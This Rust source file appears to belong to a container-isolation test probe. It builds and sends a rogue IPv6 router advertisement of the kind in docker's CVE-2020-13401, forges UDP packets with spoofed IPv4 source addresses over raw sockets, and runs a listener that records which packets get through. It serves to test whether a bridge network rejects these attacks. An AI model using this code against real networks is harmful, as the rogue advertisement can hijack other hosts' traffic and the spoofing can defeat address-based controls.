//! Attacks on a bridge network, run by the probe from *inside* a container
//! (with the default capabilities, `CAP_NET_RAW` among them), and the
//! listener that sees what arrives, run in a lab.
//!
//! - `ra IFACE`: a rogue IPv6 router advertisement (docker's CVE-2020-13401):
//!   "I am your default router, and 2001:db8:bad::/64 is your prefix", to
//!   all nodes (ff02::1) of the link, hop limit 255 as the kernel demands.
//!   First through an `AF_INET6` raw ICMPv6 socket (what the kernel lets a
//!   program send), then three times as a whole Ethernet frame through an
//!   `AF_PACKET` socket (what it lets a root with CAP_NET_RAW send, even
//!   from an interface without IPv6): the receivers have to refuse it.
//! - `spoof DST PORT SRC...`: one UDP datagram to DST:PORT for each SRC,
//!   with that forged source address (a raw IPv4 socket writes the whole
//!   header), then one from our own address, saying `genuine`: the
//!   listener's witness that the forged ones, sent before it on the same
//!   path, were either delivered or dropped.
//! - `udp-listen PORT`: print `got SRC MESSAGE` for each datagram on
//!   0.0.0.0:PORT, until `genuine` comes (or 30 s pass without a datagram).

use std::io::Write;

/// The experiment `name` with `args`, if it is one of these.
pub fn run(name: &str, args: &[String]) -> Option<i32> {
    Some(match (name, args) {
        ("ra", [iface]) => ra(iface),
        ("spoof", [dst, port, sources @ ..]) if !sources.is_empty() => spoof(dst, port, sources),
        ("udp-listen", [port]) => udp_listen(port),
        _ => return None,
    })
}

fn say(key: &str, value: impl std::fmt::Display) {
    println!("{key}: {value}");
    let _ = std::io::stdout().flush();
}

fn errno() -> String {
    format!("{:?}", nix::errno::Errno::last())
}

/// Stay on the CPU we are on: each packet we send then goes through one
/// CPU's backlog, in the order sent (a veth hands it to the receiving side
/// on the sender's CPU).
fn pin() {
    // SAFETY: sched_getcpu and sched_setaffinity on ourselves, with a set
    // we own.
    unsafe {
        let cpu = libc::sched_getcpu();
        if cpu >= 0 {
            let mut set: libc::cpu_set_t = std::mem::zeroed();
            libc::CPU_SET(cpu as usize, &mut set);
            libc::sched_setaffinity(0, std::mem::size_of::<libc::cpu_set_t>(), &set);
        }
    }
}

/// The one's-complement sum of `data` (the Internet checksum, not yet
/// inverted), from `start`.
fn sum16(start: u32, data: &[u8]) -> u32 {
    let mut sum = start;
    for pair in data.chunks(2) {
        let word = u16::from_be_bytes([pair[0], *pair.get(1).unwrap_or(&0)]);
        sum += u32::from(word);
    }
    sum
}

fn fold(mut sum: u32) -> u16 {
    while sum >> 16 != 0 {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// The router advertisement's ICMPv6 message (checksum left 0): cur hop
/// limit 64, router lifetime 1800 s, a prefix option for
/// 2001:db8:bad::/64 (on-link, autonomous: take an address from it), and
/// our link-layer address.
fn advertisement(mac: &[u8; 6]) -> Vec<u8> {
    let mut m = vec![134u8, 0, 0, 0, 64, 0];
    m.extend_from_slice(&1800u16.to_be_bytes());
    m.extend_from_slice(&[0; 8]); // reachable time, retrans timer
    m.extend_from_slice(&[3, 4, 64, 0xc0]);
    m.extend_from_slice(&86400u32.to_be_bytes());
    m.extend_from_slice(&14400u32.to_be_bytes());
    m.extend_from_slice(&[0; 4]);
    let prefix: std::net::Ipv6Addr = "2001:db8:bad::".parse().expect("an address");
    m.extend_from_slice(&prefix.octets());
    m.extend_from_slice(&[1, 1]);
    m.extend_from_slice(mac);
    m
}

fn ra(iface: &str) -> i32 {
    let Ok(name) = std::ffi::CString::new(iface) else {
        return 2;
    };
    // SAFETY: if_nametoindex reads a C string we own.
    let index = unsafe { libc::if_nametoindex(name.as_ptr()) };
    if index == 0 {
        say("ra", format!("no interface {iface}"));
        return 1;
    }
    let Some(mac) = mac_of(iface) else {
        say("ra", format!("no MAC address for {iface}: {}", errno()));
        return 1;
    };
    let message = advertisement(&mac);
    let all_nodes: std::net::Ipv6Addr = "ff02::1".parse().expect("an address");
    say("ra-inet6", ra_inet6(index, &all_nodes, &message));
    // fe80::/64 with the EUI-64 of our MAC: the link-local source a
    // router's advertisement must have.
    let mut source = [0u8; 16];
    source[..2].copy_from_slice(&[0xfe, 0x80]);
    source[8..].copy_from_slice(&[
        mac[0] ^ 2,
        mac[1],
        mac[2],
        0xff,
        0xfe,
        mac[3],
        mac[4],
        mac[5],
    ]);
    let mut icmp = message;
    let length = icmp.len() as u32;
    let pseudo = sum16(
        sum16(sum16(0, &source), &all_nodes.octets()),
        &[
            (length >> 24) as u8,
            (length >> 16) as u8,
            (length >> 8) as u8,
            length as u8,
            0,
            0,
            0,
            58,
        ],
    );
    let checksum = fold(sum16(pseudo, &icmp));
    icmp[2..4].copy_from_slice(&checksum.to_be_bytes());
    let destination = [0x33, 0x33, 0, 0, 0, 1];
    let mut frame = Vec::new();
    frame.extend_from_slice(&destination);
    frame.extend_from_slice(&mac);
    frame.extend_from_slice(&[0x86, 0xdd]);
    frame.extend_from_slice(&[0x60, 0, 0, 0]);
    frame.extend_from_slice(&(icmp.len() as u16).to_be_bytes());
    frame.extend_from_slice(&[58, 255]);
    frame.extend_from_slice(&source);
    frame.extend_from_slice(&all_nodes.octets());
    frame.extend_from_slice(&icmp);
    // SAFETY: plain socket calls with buffers and addresses we own.
    unsafe {
        let socket = libc::socket(
            libc::AF_PACKET,
            libc::SOCK_RAW,
            i32::from((libc::ETH_P_IPV6 as u16).to_be()),
        );
        if socket < 0 {
            say("ra-packet", errno());
            return 0;
        }
        let mut to: libc::sockaddr_ll = std::mem::zeroed();
        to.sll_family = libc::AF_PACKET as u16;
        to.sll_protocol = (libc::ETH_P_IPV6 as u16).to_be();
        to.sll_ifindex = index as i32;
        to.sll_halen = 6;
        to.sll_addr[..6].copy_from_slice(&destination);
        let mut sent = 0;
        for _ in 0..3 {
            let n = libc::sendto(
                socket,
                frame.as_ptr().cast(),
                frame.len(),
                0,
                (&to as *const libc::sockaddr_ll).cast(),
                std::mem::size_of::<libc::sockaddr_ll>() as u32,
            );
            if n < 0 {
                say("ra-packet", errno());
                libc::close(socket);
                return 0;
            }
            sent += 1;
        }
        libc::close(socket);
        say("ra-packet", format!("sent {sent}"));
    }
    0
}

/// The advertisement through the kernel's own IPv6 stack: an ICMPv6 raw
/// socket (the kernel fills in the checksum), hop limit 255, to ff02::1
/// on `index`. "ok" or the errno (an interface without IPv6 has no
/// link-local address to send from).
fn ra_inet6(index: u32, to: &std::net::Ipv6Addr, message: &[u8]) -> String {
    // SAFETY: plain socket calls with buffers and addresses we own.
    unsafe {
        let socket = libc::socket(libc::AF_INET6, libc::SOCK_RAW, libc::IPPROTO_ICMPV6);
        if socket < 0 {
            return errno();
        }
        let hops: libc::c_int = 255;
        for option in [libc::IPV6_MULTICAST_HOPS, libc::IPV6_UNICAST_HOPS] {
            libc::setsockopt(
                socket,
                libc::IPPROTO_IPV6,
                option,
                (&hops as *const libc::c_int).cast(),
                std::mem::size_of::<libc::c_int>() as u32,
            );
        }
        let mut address: libc::sockaddr_in6 = std::mem::zeroed();
        address.sin6_family = libc::AF_INET6 as u16;
        address.sin6_addr.s6_addr = to.octets();
        address.sin6_scope_id = index;
        let n = libc::sendto(
            socket,
            message.as_ptr().cast(),
            message.len(),
            0,
            (&address as *const libc::sockaddr_in6).cast(),
            std::mem::size_of::<libc::sockaddr_in6>() as u32,
        );
        let said = if n < 0 { errno() } else { "ok".to_string() };
        libc::close(socket);
        said
    }
}

/// The MAC address of `iface` (SIOCGIFHWADDR).
fn mac_of(iface: &str) -> Option<[u8; 6]> {
    // SAFETY: an ioctl on a socket we own, into a zeroed ifreq whose name
    // we fill (shorter than IFNAMSIZ).
    unsafe {
        let socket = libc::socket(libc::AF_INET, libc::SOCK_DGRAM, 0);
        if socket < 0 {
            return None;
        }
        let mut request: libc::ifreq = std::mem::zeroed();
        for (to, from) in request
            .ifr_name
            .iter_mut()
            .zip(iface.bytes().take(libc::IFNAMSIZ - 1))
        {
            *to = from as libc::c_char;
        }
        let done = libc::ioctl(socket, libc::SIOCGIFHWADDR, &mut request);
        libc::close(socket);
        if done < 0 {
            return None;
        }
        let data = request.ifr_ifru.ifru_hwaddr.sa_data;
        let mut mac = [0u8; 6];
        for (to, from) in mac.iter_mut().zip(data.iter()) {
            *to = *from as u8;
        }
        Some(mac)
    }
}

fn spoof(dst: &str, port: &str, sources: &[String]) -> i32 {
    let (Ok(dst), Ok(port)) = (dst.parse::<std::net::Ipv4Addr>(), port.parse::<u16>()) else {
        say("spoof", "usage: spoof DST PORT SRC...");
        return 2;
    };
    pin();
    // SAFETY: plain socket calls with buffers and addresses we own.
    let socket = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
    if socket < 0 {
        say("spoof", errno());
        return 1;
    }
    for source in sources {
        let Ok(from) = source.parse::<std::net::Ipv4Addr>() else {
            say(source, "not an address");
            continue;
        };
        let payload = format!("forged {from}");
        let total = 28 + payload.len();
        let mut packet = vec![0x45, 0];
        packet.extend_from_slice(&(total as u16).to_be_bytes());
        packet.extend_from_slice(&[0, 0, 0, 0, 64, 17, 0, 0]);
        packet.extend_from_slice(&from.octets());
        packet.extend_from_slice(&dst.octets());
        let checksum = fold(sum16(0, &packet));
        packet[10..12].copy_from_slice(&checksum.to_be_bytes());
        packet.extend_from_slice(&4444u16.to_be_bytes());
        packet.extend_from_slice(&port.to_be_bytes());
        packet.extend_from_slice(&((8 + payload.len()) as u16).to_be_bytes());
        packet.extend_from_slice(&[0, 0]); // no UDP checksum (IPv4 allows it)
        packet.extend_from_slice(payload.as_bytes());
        // SAFETY: as above.
        let sent = unsafe {
            let mut to: libc::sockaddr_in = std::mem::zeroed();
            to.sin_family = libc::AF_INET as u16;
            to.sin_addr.s_addr = u32::from_ne_bytes(dst.octets());
            libc::sendto(
                socket,
                packet.as_ptr().cast(),
                packet.len(),
                0,
                (&to as *const libc::sockaddr_in).cast(),
                std::mem::size_of::<libc::sockaddr_in>() as u32,
            )
        };
        say(
            &format!("forged {from}"),
            if sent < 0 { errno() } else { "sent".into() },
        );
    }
    // SAFETY: our own socket.
    unsafe { libc::close(socket) };
    let genuine = std::net::UdpSocket::bind("0.0.0.0:0")
        .and_then(|s| s.send_to(b"genuine", (dst, port)).map(|_| ()));
    say(
        "genuine",
        genuine.map_or_else(|e| e.to_string(), |_| "sent".into()),
    );
    0
}

fn udp_listen(port: &str) -> i32 {
    let socket = match std::net::UdpSocket::bind(("0.0.0.0", port.parse::<u16>().unwrap_or(0))) {
        Ok(socket) => socket,
        Err(e) => {
            say("udp-listen", e);
            return 1;
        }
    };
    let _ = socket.set_read_timeout(Some(std::time::Duration::from_secs(30)));
    say("udp-listen", "ready");
    let mut buffer = [0u8; 2048];
    loop {
        match socket.recv_from(&mut buffer) {
            Ok((n, from)) => {
                let text = String::from_utf8_lossy(&buffer[..n]).into_owned();
                println!("got {} {text}", from.ip());
                let _ = std::io::stdout().flush();
                if text == "genuine" {
                    return 0;
                }
            }
            Err(e) => {
                say("udp-listen", e);
                return 1;
            }
        }
    }
}
